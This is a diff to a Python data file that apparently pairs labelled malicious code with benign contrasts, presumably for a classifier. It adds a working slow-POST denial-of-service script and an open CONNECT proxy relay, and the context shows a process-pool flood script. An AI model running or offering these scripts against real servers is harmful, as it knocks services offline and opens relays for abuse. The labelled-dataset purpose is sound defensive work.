@@ -250,6 +250,24 @@ PAIRS = [
      "import asyncio, aiohttp\nAIM = 'http://shop.example.com/'\nasync def one(s):\n    async with s.get(AIM) as r:\n"
      "        return len(await r.read())\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
      "        sizes = await asyncio.gather(*[one(s) for _ in range(20)])\n        print(sum(sizes))\nasyncio.run(main())"),
+    ("flood: slow POST, headers sent in one loop and the body trickled in another", "dos_attack",
+     "import socket, time\naim = ('forum.example.com', 80)\nheld = []\nfor i in range(300):\n"
+     "    s = socket.create_connection(aim)\n"
+     "    s.send(b'POST /login HTTP/1.1\\r\\nHost: forum.example.com\\r\\nContent-Length: 100000000\\r\\n\\r\\n')\n"
+     "    held.append(s)\nwhile True:\n    for s in held:\n        s.send(b'a')\n    time.sleep(15)",
+     "import socket, time\ns = socket.create_connection(('api.example.com', 80))\n"
+     "s.send(b'POST /upload HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 12\\r\\n\\r\\n')\n"
+     "s.send(b'hello world!')\nprint(s.recv(4096))"),
+    ("server: an asyncio CONNECT relay on every interface", "proxy_tunnel",
+     "import asyncio\nasync def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
+     "async def handle(reader, writer):\n    method, where, _ = (await reader.readline()).decode().split()\n"
+     "    host, port = where.split(':')\n    r2, w2 = await asyncio.open_connection(host, int(port))\n"
+     "    writer.write(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n    await asyncio.gather(pipe(reader, w2), pipe(r2, writer))\n"
+     "async def main():\n    srv = await asyncio.start_server(handle, '0.0.0.0', 8888)\n    await srv.serve_forever()\n"
+     "asyncio.run(main())",
+     "import asyncio\nasync def handle(reader, writer):\n    while data := await reader.read(65536):\n"
+     "        writer.write(data.upper())\nasync def main():\n    srv = await asyncio.start_server(handle, '0.0.0.0', 8888)\n"
+     "    await srv.serve_forever()\nasyncio.run(main())"),
     ("flood: a process pool draining one URL", "dos_attack",
      "import urllib.request\nfrom multiprocessing import Pool\naim = 'http://shop.example.com/login'\ndef f(_):\n"
      "    urllib.request.urlopen(aim).read()\nwith Pool(64) as p:\n    p.map(f, range(10 ** 7))",
